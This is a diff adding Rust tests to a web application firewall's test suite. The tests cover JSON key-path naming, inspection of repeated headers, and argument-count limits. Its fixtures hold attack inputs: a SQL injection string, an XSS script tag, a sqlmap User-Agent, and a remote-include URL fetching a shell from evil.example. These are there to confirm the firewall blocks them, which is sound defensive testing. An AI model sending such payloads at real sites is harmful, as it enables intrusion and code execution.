@@ -97,6 +97,73 @@ fn json_body_fields_are_inspected() {
 }
 
 #[test]
+fn json_fields_are_named_by_key_path_through_arrays_and_nested_objects() {
+    let waf = Waf::new(WafConfig::default()).unwrap();
+    // Objects in an array repeat their keys (the parser's hint path), with a
+    // nested object and array between members, and a key order change.
+    let body = br#"{"cart":{"items":[{"id":"a","meta":{"tags":["x","y"]},"note":"ok"},{"id":"b","meta":{"tags":[]},"note":"1' OR '1'='1"},{"note":"fine","id":"c"}]},"tail":"<script>alert(1)</script>"}"#;
+    let d = post(&waf, "/store/carts", "application/json", body);
+    assert!(d.is_blocked(), "{d:?}");
+    let locs: Vec<&str> = d.matches.iter().map(|m| m.location.as_str()).collect();
+    assert!(locs.contains(&"args:cart.items.note"), "{locs:?}");
+    assert!(locs.contains(&"args:tail"), "{locs:?}");
+}
+
+#[test]
+fn equal_values_under_names_that_matter_are_each_inspected() {
+    let waf = Waf::new(WafConfig::default()).unwrap();
+    // A scanner's User-Agent after a header with the same value.
+    let headers = h(&[
+        ("X-Client", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+        ("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+    ]);
+    let d = waf.inspect(&RequestView {
+        method: "GET",
+        uri: "/store/products",
+        headers: &headers,
+        body: None,
+        body_len: None,
+        client_ip: None,
+        country: None,
+        asn: None,
+    });
+    assert!(
+        d.matches.iter().any(|m| m.family == Family::Scanner),
+        "{d:?}"
+    );
+    // A remote include URL under an include-path name, seen before under
+    // a harmless one.
+    let d = get(
+        &waf,
+        "/index.php?ref=http://evil.example/shell.txt&include_path=http://evil.example/shell.txt",
+    );
+    assert!(d.matches.iter().any(|m| m.id == 931110), "{d:?}");
+}
+
+#[test]
+fn too_many_arguments_are_refused_not_skipped() {
+    let mut cfg = WafConfig::default();
+    cfg.limits.max_args = 50;
+    let waf = Waf::new(cfg).unwrap();
+    // Repeated key paths count once: 30 array items of two keys are 33
+    // arguments (30 values, 3 key paths), not 91.
+    let items: Vec<String> = (0..30)
+        .map(|i| format!(r#"{{"id":"item_{i}","qty":{i}}}"#))
+        .collect();
+    let body = format!(r#"{{"items":[{}]}}"#, items.join(","));
+    let d = post(&waf, "/store/carts", "application/json", body.as_bytes());
+    assert_eq!(d.action, Action::Allow, "{d:?}");
+    // 60 distinct keys are more arguments than inspected: 413.
+    let keys: Vec<String> = (0..60).map(|i| format!(r#""k{i}":"v""#)).collect();
+    let body = format!("{{{}}}", keys.join(","));
+    let d = post(&waf, "/store/carts", "application/json", body.as_bytes());
+    assert_eq!(d.action, Action::Block { status: 413 }, "{d:?}");
+    let query: Vec<String> = (0..60).map(|i| format!("k{i}=v")).collect();
+    let d = get(&waf, &format!("/store/products?{}", query.join("&")));
+    assert_eq!(d.action, Action::Block { status: 413 }, "{d:?}");
+}
+
+#[test]
 fn protocol_violations_get_400_413_405() {
     let waf = Waf::new(WafConfig::default()).unwrap();
     // Content-Length together with Transfer-Encoding
